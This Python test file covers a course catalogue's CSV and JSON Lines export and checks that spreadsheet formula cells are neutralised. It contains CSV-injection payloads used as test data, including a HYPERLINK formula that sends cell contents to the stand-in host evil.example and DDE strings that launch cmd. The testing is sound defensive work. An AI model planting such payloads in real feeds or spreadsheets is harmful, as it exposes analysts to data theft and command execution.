"""Bulk export: a stable column set, RFC 4180 CSV that a spreadsheet opens without running
anything, JSON Lines, the search filters, streamed batch by batch."""

from __future__ import annotations

import csv
import io

import orjson
import pytest

from catalogue.export import COLUMN_NAMES, Exporter, ExportFormat, neutralise_formula
from catalogue.search.query import Filters
from tests.agency_data import load_duplicate_pair, store_offerings
from tests.search.corpus import OPENLEARN, corpus, offering

# The published column set, in order. Changing it breaks agencies' imports: columns are
# only ever added at the end, and this list with them.
STABLE_COLUMNS = (
    "id",
    "provider_id",
    "provider_name",
    "provider_offering_id",
    "title",
    "url",
    "framework",
    "level",
    "eqf",
    "credits",
    "credit_system",
    "ects",
    "hours",
    "weeks",
    "price_amount",
    "price_currency",
    "price_ref",
    "reference_currency",
    "free",
    "modes",
    "paces",
    "countries",
    "regions",
    "languages",
    "subjects",
    "credential_type",
    "start_dates",
    "learning_outcomes",
    "assessment",
    "quality_assurance",
    "prerequisites",
    "stackable_into",
    "channel",
    "source_url",
    "first_seen",
    "last_seen",
    "updated_at",
    "version",
    "duplicate_of",
)
# What an attacker would put in a feed to run in an agency analyst's spreadsheet
# (OWASP, CSV Injection).
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "assessment": "+cmd|' /C calc'!A0",
    "prerequisites": "-2+3+cmd|' /C calc'!A0",
    "quality_assurance": "@SUM(1+1)*cmd|' /C calc'!A0",
    "credential_type": "\t=1+1",
}


def hostile_offering():
    base = offering(30, OPENLEARN, "placeholder", ects=5)
    return base.model_copy(
        update={**HOSTILE, "learning_outcomes": ["\r=2+5", 'Plain, "quoted"\nline']}
    )


def export(
    services, export_format=ExportFormat.CSV, filters: Filters | None = None, **options
) -> bytes:
    exporter = Exporter(services.catalogue, "EUR")
    return b"".join(exporter.stream(filters or Filters(), export_format, **options))


def test_the_column_set_is_stable():
    assert COLUMN_NAMES == STABLE_COLUMNS


def test_formula_cells_are_neutralised():
    for cell in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert neutralise_formula(cell) == "'" + cell
    for cell in ("1", "a=b", " safe", "'quoted", ""):
        assert neutralise_formula(cell) == cell


def test_hostile_cells_open_as_text(services):
    store_offerings(services, [*corpus(), hostile_offering()])
    body = export(services)
    assert body.count(b"\r\n") >= len(corpus()) + 2  # RFC 4180: CRLF after every record
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    assert len(rows) == len(corpus()) + 1
    [row] = [r for r in rows if r["id"] == "doc030"]
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value, name
    assert row["learning_outcomes"] == '\'\r=2+5; Plain, "quoted"\nline'
    for cell in (c for r in rows for c in r.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_values(services):
    store_offerings(services, corpus())
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export(services).decode(), newline=""))}
    first = rows["doc001"]
    assert (first["provider_id"], first["framework"], first["level"], first["eqf"]) == (
        "te-awa",
        "NZQF",
        "5",
        "5",
    )
    assert first["price_ref"] == "690.0" and first["free"] == "false"
    assert first["modes"] == "in_person; online" and first["countries"] == "NZ"
    assert first["start_dates"] == "2027-03-01; 2027-07-01"
    assert rows["doc009"]["price_ref"] == "" and rows["doc002"]["free"] == "true"


def test_jsonl_keeps_types_and_lists(services):
    store_offerings(services, [*corpus(), hostile_offering()])
    lines = export(services, ExportFormat.JSONL).splitlines()
    records = {r["id"]: r for r in map(orjson.loads, lines)}
    assert list(records["doc001"]) == list(STABLE_COLUMNS)
    assert records["doc001"]["modes"] == ["in_person", "online"] and records["doc001"]["eqf"] == 5
    assert records["doc030"]["title"] == HOSTILE["title"]  # JSON is data, not a spreadsheet


def test_filters_and_duplicates(services):
    store_offerings(services, corpus())
    assert (
        len(export(services, ExportFormat.JSONL, Filters(provider=("cliodhna",))).splitlines()) == 3
    )
    assert export(services, ExportFormat.JSONL, Filters(eqf_min=8)) == b""
    header_only = export(services, filters=Filters(eqf_min=8))
    assert header_only.decode().rstrip("\r\n").split(",")[0] == '"id"'


def test_duplicates_are_left_out_unless_asked_for(services):
    load_duplicate_pair(services)
    shown = [orjson.loads(x) for x in export(services, ExportFormat.JSONL).splitlines()]
    every = [
        orjson.loads(x)
        for x in export(services, ExportFormat.JSONL, include_duplicates=True).splitlines()
    ]
    assert len(every) == len(shown) + 1
    [second] = [r for r in every if r["duplicate_of"]]
    assert second["provider_id"] == "edx" and second["duplicate_of"] in {r["id"] for r in shown}


@pytest.mark.parametrize("export_format", list(ExportFormat))
def test_rows_are_streamed_in_batches(services, export_format):
    store_offerings(services, corpus())
    exporter = Exporter(services.catalogue, "EUR", batch_rows=3)
    chunks = list(exporter.stream(Filters(), export_format))
    assert len(chunks) >= 4  # 10 rows, 3 at a time: written out as they are read
